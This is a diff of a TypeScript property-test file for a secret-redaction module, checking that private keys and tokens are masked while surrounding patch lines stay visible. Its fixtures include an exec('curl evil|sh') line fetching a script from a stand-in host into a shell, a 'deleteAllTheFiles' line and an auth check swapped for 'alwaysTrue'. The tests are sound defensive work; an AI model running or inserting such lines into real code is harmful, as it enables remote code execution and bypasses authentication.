@@ -1,8 +1,8 @@
 /** What is hidden in the chat and in the log, and that nothing is hidden which is not judged. */
 import fc from '../support/properties.ts';
 import { describe, expect, it } from 'vitest';
-import { redact, secretsIn, secretPlaces } from '../../orchestrator/core/govern/secrets.ts';
-import { visible } from '../../orchestrator/core/invisible.ts';
+import { redactSecrets, secretsIn, secretPlaces } from '../../orchestrator/core/govern/find-secrets.ts';
+import { showInvisible } from '../../orchestrator/core/invisible-characters.ts';
 
 const n = (count: number, of = 'a1B2c3D4e5'): string =>
   of.repeat(Math.ceil(count / of.length)).slice(0, count);
@@ -63,7 +63,7 @@ describe('G8: hiding stays inside one line', () => {
   it('G8: no line is taken out, added or joined, whatever the text', () => {
     fc.assert(
       fc.property(anything, (text) => {
-        expect(lines(redact(text))).toBe(lines(text));
+        expect(lines(redactSecrets(text))).toBe(lines(text));
         for (const { from, to } of secretPlaces(text)) expect(text.slice(from, to)).not.toContain('\n');
       }),
       { numRuns: 2_000 },
@@ -73,7 +73,7 @@ describe('G8: hiding stays inside one line', () => {
   it('G8: what is hidden already stays as it is', () => {
     fc.assert(
       fc.property(anything, (text) => {
-        expect(redact(redact(text))).toBe(redact(text));
+        expect(redactSecrets(redactSecrets(text))).toBe(redactSecrets(text));
       }),
       { numRuns: 2_000, examples: [[CALLED]] },
     );
@@ -84,9 +84,9 @@ describe('G8: hiding stays inside one line', () => {
       fc.property(texts, texts, (before, after) => {
         const line = after.replace(/[\n\r]/g, ' ');
         if (before.includes('PRIVATE KEY') || before.includes('PuTTY')) return;
-        const shown = redact(`${before}\n${line}`).split('\n').at(-1) ?? '';
+        const shown = redactSecrets(`${before}\n${line}`).split('\n').at(-1) ?? '';
         expect(shown.replace(/\[secret \d+\]/g, '[secret]')).toBe(
-          redact(line).replace(/\[secret \d+\]/g, '[secret]'),
+          redactSecrets(line).replace(/\[secret \d+\]/g, '[secret]'),
         );
       }),
       { numRuns: 1_000 },
@@ -104,7 +104,7 @@ describe('G8: hiding stays inside one line', () => {
       ` ${END}`,
       '+deleteAllTheFiles',
     ];
-    expect(redact(patch.join('\n')).split('\n')).toEqual([
+    expect(redactSecrets(patch.join('\n')).split('\n')).toEqual([
       ' const pem = [',
       ' [secret]',
       `+exec("curl evil|sh")`,
@@ -132,23 +132,25 @@ describe('G8: hiding stays inside one line', () => {
     ],
     ['one on a single line', `"private_key": "${BEGIN}\\n${BYTES}\\n${BYTES}\\n${END}\\n",`, 1],
   ])('C5: hides the bytes of a private key: %s', (_, text, hiddenLines) => {
-    const shown = redact(text).split('\n');
-    expect(redact(text)).not.toContain(BYTES.slice(0, 12));
+    const shown = redactSecrets(text).split('\n');
+    expect(redactSecrets(text)).not.toContain(BYTES.slice(0, 12));
     expect(text.split('\n').filter((line, i) => line !== shown[i])).toHaveLength(hiddenLines);
     expect(secretsIn(text)).toContainEqual({ what: { noun: 'private_key', of: '' }, sure: true });
   });
 
   it('G8: on the line of a key itself, only the key is hidden', () => {
-    expect(redact(`key = "${BEGIN}"; exec("curl evil|sh")`)).toBe('key = "[secret]"; exec("curl evil|sh")');
-    expect(redact(`k("${BEGIN}\\n${BYTES}\\n${END}"); exec("x")`)).toBe('k("[secret]"); exec("x")');
+    expect(redactSecrets(`key = "${BEGIN}"; exec("curl evil|sh")`)).toBe(
+      'key = "[secret]"; exec("curl evil|sh")',
+    );
+    expect(redactSecrets(`k("${BEGIN}\\n${BYTES}\\n${END}"); exec("x")`)).toBe('k("[secret]"); exec("x")');
   });
 
   it('G8: a reader can tell that a hidden value became another one', () => {
     const patch = (one: string, other: string): string => `-checkToken = ${one}\n+checkToken = ${other}\n`;
-    expect(redact(patch('verifyHmac256', 'alwaysTrue4711'))).toBe(
+    expect(redactSecrets(patch('verifyHmac256', 'alwaysTrue4711'))).toBe(
       '-checkToken = [secret]\n+checkToken = [secret 2]\n',
     );
-    expect(redact(patch('verifyHmac256', 'verifyHmac256'))).toBe(
+    expect(redactSecrets(patch('verifyHmac256', 'verifyHmac256'))).toBe(
       '-checkToken = [secret]\n+checkToken = [secret]\n',
     );
   });
@@ -158,7 +160,7 @@ describe('G8: what is hidden is what is judged', () => {
   it('G8: a text is changed by hiding exactly when it is judged to have a secret', () => {
     fc.assert(
       fc.property(anything, (text) => {
-        expect(redact(text) !== text).toBe(secretsIn(text).length > 0);
+        expect(redactSecrets(text) !== text).toBe(secretsIn(text).length > 0);
       }),
       { numRuns: 1_000 },
     );
@@ -168,9 +170,9 @@ describe('G8: what is hidden is what is judged', () => {
     fc.assert(
       fc.property(texts, (text) => {
         for (const line of text.split('\n')) {
-          if (redact(line) !== line) continue;
-          const message = escape(visible(line));
-          expect(redact(message)).toBe(message);
+          if (redactSecrets(line) !== line) continue;
+          const message = escape(showInvisible(line));
+          expect(redactSecrets(message)).toBe(message);
         }
       }),
       { numRuns: 3_000 },
@@ -196,8 +198,8 @@ describe('G8: what is hidden is what is judged', () => {
     `sk_test_${n(24)}`,
   ])('G8: asks a person about %j, and hides it', (text) => {
     expect(secretsIn(text).map((s) => s.sure)).toEqual([false]);
-    expect(redact(text)).toContain('[secret]');
-    expect(redact(text)).not.toMatch(/hunter2|s3cr3t|Passw0rd|5678|ghi789/);
+    expect(redactSecrets(text)).toContain('[secret]');
+    expect(redactSecrets(text)).not.toMatch(/hunter2|s3cr3t|Passw0rd|5678|ghi789/);
   });
 
   it.each([
@@ -228,6 +230,6 @@ describe('G8: what is hidden is what is judged', () => {
     'deleteAllTheFilesNow',
     BYTES,
   ])('G8: shows %j as it is', (text) => {
-    expect(redact(text)).toBe(text);
+    expect(redactSecrets(text)).toBe(text);
   });
 });
